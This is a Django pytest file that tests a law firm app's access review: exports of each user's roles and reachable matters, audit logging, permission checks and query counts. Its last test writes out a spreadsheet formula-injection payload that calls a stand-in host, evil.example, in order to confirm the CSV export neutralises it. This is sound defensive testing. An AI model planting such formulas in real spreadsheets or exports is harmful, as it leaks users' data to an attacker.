"""The access review: every user, their roles, each matter they reach and why, as a page, a CSV and JSON."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from core.access import matters_for_user
from core.access_review import access_review
from core.audit.models import AuditEntry
from core.models import Grant, Matter, User
from core.services import firm_settings_update

if TYPE_CHECKING:
    from tests.support.cast import Cast


def _csv(response: Any) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def _rows_for(rows: list[dict[str, str]], email: str) -> dict[str, str]:
    return {row["matter_reference"]: row["access_via"] for row in rows if row["email"] == email}


def test_csv_lists_each_users_matters_and_why(cast: Cast) -> None:
    response = cast.firm.client(cast.paula).get("/staff/access-review.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert 'filename="access-review-acme-' in response["Content-Disposition"]
    rows = _csv(response)
    olga_until = f"{cast.olga_grant.expires_at:%Y-%m-%d %H:%M} UTC"
    assert _rows_for(rows, "arthur@acme.test") == {"2025-0001": "responsible attorney"}
    assert _rows_for(rows, "pete@acme.test") == {"2025-0001": "assigned paralegal"}
    assert _rows_for(rows, "carol@acme.test") == {"2025-0001": "client of the matter"}
    assert _rows_for(rows, "olga@acme.test") == {"2025-0001": f"grant: co-counsel at hearing (until {olga_until})"}
    assert _rows_for(rows, "paula@acme.test") == {
        "2025-0001": "role: partner",
        "2025-0002": "role: partner",
        "2025-0003": "role: partner",
        "2026-0101": "role: partner",
        "2026-0202": "role: partner",
    }
    assert _rows_for(rows, "oscar@acme.test") == {"": ""}  # expired grant: listed, reaching nothing
    assert _rows_for(rows, "anna@acme.test") == {"": ""}
    [olga] = [row for row in rows if row["email"] == "olga@acme.test"]
    assert olga["roles"] == "outside counsel"
    assert olga["grant_expires_at"] == cast.olga_grant.expires_at.isoformat()
    assert olga["two_factor"] == "no"
    assert olga["staff"] == "no"


def test_csv_export_is_audited(cast: Cast) -> None:
    cast.firm.client(cast.alice).get("/staff/access-review.csv")

    with cast.firm.tenant:
        entry = AuditEntry.objects.filter(action="access_review.exported").last()
        assert entry is not None
        assert entry.actor_email == "alice@acme.test"
        assert entry.data_dict["format"] == "csv"
        assert entry.data_dict["users"] == User.objects.count()


def test_page_shows_reasons_roles_and_last_sign_in(cast: Cast) -> None:
    from tests.support.firms import PASSWORD

    signed_in = cast.firm.client()
    signed_in.post("/accounts/login/", {"username": "carol@acme.test", "password": PASSWORD})

    page = cast.firm.client(cast.alice).get("/staff/access-review/")

    assert page.status_code == 200
    text = page.content.decode()
    assert "Every matter (5) — role: firm admin" in text
    assert "2025-0001 · Carol Diaz marriage petition — client of the matter" in text
    assert "grant: co-counsel at hearing (until" in text
    with cast.firm.tenant:
        last_login = User.objects.get(pk=cast.carol.pk).last_login
    assert last_login is not None
    assert f"last sign-in: {last_login:%Y-%m-%d %H:%M}" in text


@pytest.mark.parametrize("who", ["arthur", "pete", "bill", "ivy", "carol", "olga"])
def test_only_firm_admins_and_partners_may_see_the_review(cast: Cast, who: str) -> None:
    client = cast.firm.client(getattr(cast, who))

    assert client.get("/staff/access-review/").status_code == 403
    assert client.get("/staff/access-review.csv").status_code == 403
    assert client.get("/api/v1/access-review").status_code == 403


@pytest.mark.parametrize("attorneys_see_all", [False, True])
def test_review_agrees_with_the_accessor_for_every_user(cast: Cast, attorneys_see_all: bool) -> None:
    with cast.firm.tenant:
        firm_settings_update(by=cast.alice, attorneys_see_all_matters=attorneys_see_all)
        review = {row.user.pk: {a.matter.pk for a in row.matters} for row in access_review()}
        accessor = {u.pk: set(matters_for_user(u).values_list("pk", flat=True)) for u in User.objects.all()}

    assert review == accessor
    every_matter = {m.pk for m in (cast.m1, cast.m2, cast.m3, cast.lucia_matter, cast.dora_matter)}
    assert review[cast.anna.pk] == (every_matter if attorneys_see_all else set())


def test_review_query_count_does_not_grow_with_users_and_matters(cast: Cast) -> None:
    from core.matters import matter_create
    from core.roles import Role
    from core.services import user_create

    with cast.firm.tenant:
        access_review()  # warm Django's content-type cache
        with CaptureQueriesContext(connection) as few:
            access_review()
        for n in range(10):
            client = user_create(email=f"bulk{n}@client.test", role=Role.CLIENT)
            matter_create(
                reference=f"B-{n}",
                title="bulk",
                matter_type="I-485",
                client=client,
                responsible_attorney=cast.arthur,
                by=cast.alice,
            )
        with CaptureQueriesContext(connection) as many:
            rows = access_review()

    assert len(many) == len(few)
    assert sum(len(r.matters) for r in rows if r.user.pk == cast.arthur.pk) == 11


def test_api_review_lists_reasons_and_is_audited(cast: Cast) -> None:
    response = cast.firm.client(cast.paula).get("/api/v1/access-review")

    assert response.status_code == 200
    users = {u["email"]: u for u in response.json()["users"]}
    assert users["olga@acme.test"]["matters"][0]["reference"] == "2025-0001"
    assert users["olga@acme.test"]["matters"][0]["grant_expires_at"] is not None
    with cast.firm.tenant:
        entry = AuditEntry.objects.filter(action="access_review.exported").last()
        assert entry is not None
        assert entry.data_dict["format"] == "json"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_spreadsheet_formulas_in_names_titles_and_reasons(cast: Cast, lead: str) -> None:
    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"Open")'
    with cast.firm.tenant:
        User.objects.filter(pk=cast.olga.pk).update(full_name=formula)
        Matter.objects.filter(pk=cast.m1.pk).update(title=formula)
        Grant.objects.filter(pk=cast.olga_grant.pk).update(reason=formula)

    rows = _csv(cast.firm.client(cast.paula).get("/staff/access-review.csv"))

    [olga] = [row for row in rows if row["email"] == "olga@acme.test"]
    assert olga["name"] == f"'{formula}"
    assert olga["matter_title"] == f"'{formula}"
    assert olga["access_via"].startswith("grant: ")  # a reason inside a longer cell cannot start a formula
    leading = {row[column][:1] for row in rows for column in row if row[column]}
    assert leading.isdisjoint({"=", "+", "@", "\t", "\r"})
    assert all(not row[column].startswith("-") or row[column] == "-" for row in rows for column in row)
